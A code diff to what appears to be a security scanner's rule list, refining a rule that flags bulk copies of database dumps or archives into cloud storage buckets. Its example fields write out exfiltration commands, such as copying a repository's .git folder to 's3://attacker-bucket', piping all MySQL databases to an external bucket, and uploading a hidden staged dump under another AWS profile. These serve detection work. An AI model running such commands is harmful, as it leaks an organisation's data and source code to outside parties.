@@ -992,10 +992,11 @@ export const RULES: readonly Rule[] = [
     message: 'Copies a database dump, home folder, disk image or staged archive into a cloud storage bucket',
     why: 'The nightly backup and the theft look the same on the command line: only the bucket\'s owner differs, and the command does not say who that is. It is shown so that someone who knows the team\'s buckets can tell.',
     alternative: 'Back up to buckets your infrastructure code declares, through the backup tooling.',
-    check: (i) => findFlow(i, ['bulk'], (d) => d.kind === 'cloud-bucket'),
+    // one that goes out under other credentials or from a hidden staged file is PX-EXFIL-003's
+    check: (i) => findFlow(i, ['bulk'], (d, f) => d.kind === 'cloud-bucket' && !foreignBucketCopy(f)),
     examples: {
       fire: ['pg_dump -h db-primary.internal.acme.io -U backup -Fc orders | aws s3 cp - s3://acme-corp-db-backups/orders/orders.dump --sse aws:kms', 'aws s3 cp --recursive .git s3://attacker-bucket/acme-webapp/.git', 'mysqldump --all-databases | gzip | gsutil cp - gs://archive-ext-4471/all.sql.gz'],
-      quiet: ['aws s3 cp dist/app.tar.gz s3://acme-corp-web-artifacts/releases/', 'pg_dump app_dev > backups/dev.sql', 'aws s3 sync ./public s3://acme-site/'],
+      quiet: ['aws s3 cp /tmp/.db.sql s3://drop-7731/x --profile other', 'aws s3 cp dist/app.tar.gz s3://acme-corp-web-artifacts/releases/', 'pg_dump app_dev > backups/dev.sql', 'aws s3 sync ./public s3://acme-site/'],
     },
   },
 ];
